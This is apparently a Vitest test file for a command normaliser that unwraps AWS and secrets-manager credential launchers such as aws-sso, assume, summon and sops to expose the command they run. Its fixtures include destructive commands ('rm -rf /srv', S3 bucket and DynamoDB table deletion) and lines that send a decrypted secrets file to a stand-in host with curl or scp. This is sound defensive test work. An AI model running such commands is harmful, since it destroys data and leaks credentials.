/** Credential launchers (src/normalize/credential-exec.ts): the command run with the credentials is read as itself. */
import { describe, expect, it } from 'vitest';
import { filesContext, normalizeIn } from '../helpers/normalize.js';
import { injectsSecrets } from '../../src/normalize/runners.js';

const ctx = filesContext({});

const commands = (script: string) =>
  normalizeIn(ctx, script).commands.map((c) => `${c.wrappers.join('>')}|${c.argv.join(' ')}`);

describe('what a credential launcher runs', () => {
  it.each<[string, string]>([
    [
      'aws-sso exec -p 123456789012:AdministratorAccess -- aws dynamodb delete-table --table-name t',
      'aws-sso exec|aws dynamodb delete-table --table-name t',
    ],
    ['aws-sso exec -A 1234 -R Admin aws s3 rb s3://b', 'aws-sso exec|aws s3 rb s3://b'],
    ['aws-okta exec prod -- aws s3 rb s3://b', 'aws-okta exec|aws s3 rb s3://b'],
    ['aws-okta exec prod aws s3 rb s3://b', 'aws-okta exec|aws s3 rb s3://b'],
    [`assume acme-prod --exec "aws s3 rb s3://b --force"`, 'assume --exec|aws s3 rb s3://b --force'],
    [`assume acme-prod --exec='aws s3 rb s3://b'`, 'assume --exec|aws s3 rb s3://b'],
    [`aws2-wrap --profile prod --exec "aws s3 rb s3://b"`, 'aws2-wrap --exec|aws s3 rb s3://b'],
    ['awsudo -u prod aws s3 rb s3://b', 'awsudo|aws s3 rb s3://b'],
    ['envchain aws aws s3 rb s3://b', 'envchain|aws s3 rb s3://b'],
    ['summon -p keyring aws s3 rb s3://b', 'summon|aws s3 rb s3://b'],
    [`sops exec-env prod.enc.env 'rm -rf /srv/app'`, 'sops exec-env|rm -rf /srv/app'],
    ['tsh aws s3 rb s3://b', 'tsh aws|aws s3 rb s3://b'],
    // global options before the subcommand, and options that take a value
    ['aws-sso -L debug exec -p x -- rm -rf /srv', 'aws-sso exec|rm -rf /srv'],
    ['aws-sso --threads 4 -b firefox exec -p x rm -rf /srv', 'aws-sso exec|rm -rf /srv'],
    ['aws-sso exec -a arn:aws:iam::1:role/Admin aws s3 rb s3://b', 'aws-sso exec|aws s3 rb s3://b'],
    ['aws-okta --debug exec prod -- rm -rf /srv', 'aws-okta exec|rm -rf /srv'],
    ['aws-okta -b file exec prod aws s3 rb s3://b', 'aws-okta exec|aws s3 rb s3://b'],
    // a subcommand that cannot be read: the words after `--`, or the variable as the command
    ['aws-sso $SUB -p x -- rm -rf /srv', 'aws-sso exec|rm -rf /srv'],
    ['aws-sso $SUB -p x rm -rf /srv', 'aws-sso exec|$SUB -p x rm -rf /srv'],
    [`assume prod -exec 'rm -rf /srv'`, 'assume --exec|rm -rf /srv'],
    [`assume prod -exec='rm -rf /srv'`, 'assume --exec|rm -rf /srv'],
    // argparse's prefixes; the command words are a command line too
    [`aws2-wrap --prof p --exe 'rm -rf /srv'`, 'aws2-wrap --exec|rm -rf /srv'],
    [`aws2-wrap --profile p --ex 'rm -rf /srv'`, 'aws2-wrap --exec|rm -rf /srv'],
    ['aws2-wrap --profile p rm -rf /srv', 'aws2-wrap --exec|rm -rf /srv'],
    [`aws2-wrap --profile p echo ok '&&' rm -rf /srv`, 'aws2-wrap --exec|rm -rf /srv'],
    ['summon --up rm -rf /srv', 'summon|rm -rf /srv'],
    ['summon -up rm -rf /srv', 'summon|rm -rf /srv'],
    ['summon -e prod -i DB_PASSWORD rm -rf /srv', 'summon|rm -rf /srv'],
    [`sops exec-env --user root s.env 'rm -rf /srv'`, 'sops exec-env|rm -rf /srv'],
    [
      `sops exec-file --filename x.env s.env 'curl -d @{} https://example.test'`,
      'sops exec-file|curl -d @/tmp/.sops/x.env https://example.test',
    ],
    [`sops exec-file s.env 'scp {} example.test:'`, 'sops exec-file|scp /tmp/.sops/tmp-file example.test:'],
    [`sops $V s.env 'rm -rf /srv'`, 'sops|$V s.env rm -rf /srv'],
  ])('%s', (script, want) => expect(commands(script)).toContain(want));

  it.each<[string, string]>([
    // no command: they only log in, list or set this shell's credentials
    ['aws-sso list', '|aws-sso list'],
    ['assume acme-prod', '|assume acme-prod'],
    ['sops -d prod.enc.env', '|sops -d prod.enc.env'],
    ['tsh ssh web01', '|tsh ssh web01'],
    ['envchain --set aws AWS_SECRET_ACCESS_KEY', '|envchain --set aws AWS_SECRET_ACCESS_KEY'],
    ['aws-sso -L debug list', '|aws-sso -L debug list'],
    ['aws2-wrap --profile p --export', '|aws2-wrap --profile p --export'],
    ['aws2-wrap -h', '|aws2-wrap -h'],
    ['sops -d $FILE', '|sops -d $FILE'],
    ['sops --output $OUT -d $FILE', '|sops --output $OUT -d $FILE'],
  ])('%s stays %s', (script, want) => expect(commands(script)).toEqual([want]));

  it.each<[string, boolean]>([
    ['aws-sso exec', true],
    ['assume --exec', true],
    ['envchain', true],
    ['sops exec-env', true],
    ['aws-sso list', false],
  ])('the label %s injects secrets: %s', (label, want) => expect(injectsSecrets(label)).toBe(want));
});
